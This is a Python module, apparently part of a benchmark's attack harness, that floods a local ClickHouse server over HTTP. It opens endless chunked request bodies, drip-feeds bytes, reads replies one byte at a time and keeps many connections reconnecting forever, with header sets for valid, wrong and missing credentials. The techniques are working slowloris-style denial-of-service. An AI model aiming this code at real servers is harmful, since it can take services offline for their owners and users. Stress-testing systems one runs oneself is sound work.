"""HTTP requests as an attacker sends them: byte by byte, endless, never read, and again as soon as one is over."""

import asyncio
from collections.abc import Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote

from bench.attacks.attack import Target
from schema.clickhouse import login_of

_HOST: Final = "127.0.0.1"
_READ_BYTES: Final = 64 << 10
_AGAIN_AFTER_S: Final = 0.05
_CHUNK: Final = b"10000\r\n" + bytes(1 << 16) + b"\r\n"


@dataclass(frozen=True)
class Sending:
    """One request: its bytes, and after them for ever `chunks` of them every `pause_s` seconds.

    `sips_every_s` reads a little of the answer so often; None reads it as it comes.
    """

    request: bytes
    chunk: bytes = b""
    pause_s: float = 0.0
    sips_every_s: float | None = None


def reader(_: Target) -> str:
    """Return the headers of who may read, without a password."""
    return "X-ClickHouse-User: grafana\r\n"


def nobody(_: Target) -> str:
    """Return the headers of who has no right password."""
    return "X-ClickHouse-User: default\r\nX-ClickHouse-Key: wrong\r\n"


def owner(target: Target) -> str:
    """Return the headers of the owner."""
    return "".join(f"{name}: {value}\r\n" for name, value in login_of(target.store).headers().items())


def asking(who: str, body: bytes, *, path: str = "/", headers: str = "") -> bytes:
    """Return a request with a body."""
    head = f"POST {path} HTTP/1.1\r\nHost: {_HOST}\r\nConnection: close\r\n{who}{headers}"
    return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body


def getting(path: str) -> bytes:
    """Return a request without a body."""
    return f"GET {path} HTTP/1.1\r\nHost: {_HOST}\r\nConnection: close\r\n\r\n".encode()


def endless(who: str, start: str, *, pause_s: float = 0.0) -> Sending:
    """Return a request whose body, which begins with `start`, never ends."""
    head = f"POST /?query={quote(start)} HTTP/1.1\r\nHost: {_HOST}\r\n{who}Transfer-Encoding: chunked\r\n\r\n"
    return Sending(head.encode(), chunk=_CHUNK if not pause_s else b"1\r\n \r\n", pause_s=pause_s)


def kept_up(port: int, sendings: Sequence[Sending], at_once: int) -> Callable[[], None]:
    """Return the function that sends these in turn over so many connections, for ever."""

    async def all_of_them() -> None:
        async with asyncio.TaskGroup() as group:
            for number in range(at_once):
                group.create_task(_one_connection(port, sendings, number))

    return lambda: asyncio.run(all_of_them())


async def _one_connection(port: int, sendings: Sequence[Sending], number: int) -> None:
    while True:
        with suppress(OSError):
            await _send(port, sendings[number % len(sendings)])
        number += 1
        await asyncio.sleep(_AGAIN_AFTER_S)


async def _send(port: int, sending: Sending) -> None:
    incoming, outgoing = await asyncio.open_connection(_HOST, port)
    try:
        outgoing.write(sending.request)
        await outgoing.drain()
        while sending.chunk and not incoming.at_eof():
            outgoing.write(sending.chunk)
            await outgoing.drain()
            await asyncio.sleep(sending.pause_s)
        await _read(incoming, sending.sips_every_s)
    finally:
        outgoing.transport.abort()


async def _read(incoming: asyncio.StreamReader, sips_every_s: float | None) -> None:
    if sips_every_s is None:
        while await incoming.read(_READ_BYTES):
            pass
        return
    while not incoming.at_eof():
        await incoming.read(1)
        await asyncio.sleep(sips_every_s)
